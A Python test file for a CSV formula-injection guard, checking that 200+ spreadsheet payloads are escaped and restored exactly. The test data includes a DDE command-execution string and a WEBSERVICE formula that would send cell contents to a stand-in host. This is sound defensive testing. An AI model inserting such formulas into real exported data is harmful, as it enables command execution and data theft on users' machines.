"""Formula guards: every payload defused, every cell given back."""

from __future__ import annotations

import pyarrow as pa
from hypothesis import given, settings, strategies as st

from understudy.table.csv_guard import guard, guard_name, unguard, unguard_name

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","click")', "SUM(A1:A9)", "IMPORTXML(A1)", "",
    " ", "=",
    'WEBSERVICE("http://x.example/"&A1)', "DDE(1)", "A1", "-1", "'", "''", "\n=1", ",=1", ";=1", '"',
    "\u202e=1", "@SUM(1)",
]  # fmt: skip
PAYLOADS = [start + body for start in STARTS for body in BODIES]
HARMLESS = ["", "x", "'", "''", "'s Gravenhage", "a=1", " =1", "1-2", "\u2212 5", "'a=1", "#", "\\=1"]


def test_two_hundred_payloads_are_defused_and_given_back() -> None:
    assert len(set(PAYLOADS)) >= 200
    guarded = guard(pa.array(PAYLOADS))
    assert all(cell.startswith("'") for cell in guarded.to_pylist())
    assert unguard(guarded).to_pylist() == PAYLOADS


def test_harmless_cells_are_untouched_both_ways() -> None:
    assert guard(pa.array(HARMLESS)).to_pylist() == HARMLESS
    assert unguard(pa.array(HARMLESS)).to_pylist() == HARMLESS


def test_a_missing_cell_stays_missing() -> None:
    assert guard(pa.array(["=1", None])).to_pylist() == ["'=1", None]


@settings(max_examples=500)
@given(
    st.lists(
        st.text(
            st.sampled_from(list("'=+-@\t\r\nab \uff1d")) | st.characters(exclude_categories=["Cs"]),
            max_size=6,
        )
    )
)
def test_guarding_is_undone_exactly_however_often_it_was_done(cells: list[str]) -> None:
    once = guard(pa.array(cells, pa.string()))
    twice = guard(once)
    assert unguard(twice).to_pylist() == once.to_pylist()
    assert unguard(once).to_pylist() == cells
    assert [guard_name(cell) for cell in cells] == once.to_pylist()
    assert [unguard_name(guard_name(cell)) for cell in cells] == cells
